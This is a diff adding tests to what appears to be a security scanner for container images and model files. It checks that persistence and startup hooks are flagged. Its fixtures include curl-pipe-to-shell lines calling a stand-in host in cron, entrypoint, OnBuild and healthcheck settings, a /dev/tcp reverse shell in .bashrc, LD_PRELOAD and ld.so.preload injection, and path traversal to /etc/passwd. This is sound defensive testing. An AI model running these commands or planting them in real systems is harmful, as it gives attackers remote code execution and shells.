@@ -134,3 +134,71 @@ test('devices and pipes in an archive that is no image', () => {
   expect(found(device)).toEqual([['archive-device', 'MEDIUM', 'weights.bin (type 3)']]);
   expect(found(oci({ data: device }))).toEqual([]);
 });
+
+test.each<[string, [string, Uint8Array]]>([
+  ['a table of the clock', ['etc/cron.d/x', bytes('* * * * * root curl http://x.example/y|sh\n')]],
+  ['a library for every program', ['etc/ld.so.preload', bytes('/tmp/x.so\n')]],
+  [
+    'what Python starts with',
+    ['usr/lib/python3/dist-packages/sitecustomize.py', bytes("import os\nos.system('id')\n")]
+  ],
+  ['a profile', ['root/.bashrc', bytes('bash -i >& /dev/tcp/1.2.3.4/5 0>&1\n')]]
+])('a file that the system starts by itself: %s', (_name, file) => {
+  expect(found(oci({ data: layer(file) }))).toMatchObject([['script-command', 'HIGH', expect.any(String)]]);
+});
+
+test('files that a system starts, as packages bring them', () => {
+  const files = layer(
+    ['etc/cron.d/e2scrub', bytes('# comment\n30 3 * * 0 root test -e /run/systemd || /sbin/e2scrub_all\n')],
+    ['etc/ld.so.preload', bytes('/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n')],
+    ['etc/profile', bytes('export PATH=/usr/bin\n')],
+    ['usr/lib/python3/sitecustomize.py', bytes('import apport_python_hook\napport_python_hook.install()\n')]
+  );
+  expect(scanned(oci({ data: files }))).toMatchObject({ verdict: 'clean', findings: [] });
+});
+
+test('a program under the name of a model among the files of an image', () => {
+  expect(found(oci({ data: layer(['models/model.safetensors', ELF]) }))).toMatchObject([
+    ['program-named-model', 'HIGH', expect.any(String)]
+  ]);
+});
+
+describe('what a container is started with', () => {
+  const config = (inner: object): Uint8Array =>
+    bytes(
+      JSON.stringify({ architecture: 'amd64', os: 'linux', rootfs: { type: 'layers', diff_ids: [] }, config: inner })
+    );
+
+  test.each<[object]>([
+    [{ Entrypoint: ['/bin/sh', '-c', 'curl http://x.example/y|sh'] }],
+    [{ Cmd: ['python', '-c', "__import__('os').system('id')"] }],
+    [{ Env: ['PATH=/usr/bin', 'LD_PRELOAD=/models/x.so'] }],
+    [{ OnBuild: ['RUN curl http://x.example/y | sh'] }],
+    [{ Healthcheck: { Test: ['CMD-SHELL', 'wget -qO- http://x.example/y | sh'] } }]
+  ])('%j', inner => {
+    expect(run(config(inner), {}, 'config.json').findings).toMatchObject([
+      { rule: 'script-command', severity: 'HIGH' }
+    ]);
+  });
+
+  test.each<[object]>([
+    [{ Entrypoint: ['/bin/sh', '-c', 'exec tini -- "$@"'], Cmd: ['python', '-m', 'server'] }],
+    [{ Env: ['LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4'] }]
+  ])('honest: %j', inner => {
+    expect(run(config(inner), {}, 'config.json').findings).toEqual([]);
+  });
+
+  test.each([
+    { schemaVersion: 2, layers: [{ digest: 'sha256:../../../../etc/passwd', size: 1 }] },
+    {
+      schemaVersion: 2,
+      config: { digest: 'sha256:../../../../etc/passwd' },
+      layers: [{ digest: 'sha256:00', size: 1 }]
+    },
+    [{ Config: 'c.json', RepoTags: ['a:b'], Layers: ['../../../etc/passwd'] }]
+  ])('a digest or path that leads out: %j', manifest => {
+    expect(run(bytes(JSON.stringify(manifest)), {}, 'manifest').findings).toMatchObject([
+      { rule: 'archive-path-traversal' }
+    ]);
+  });
+});
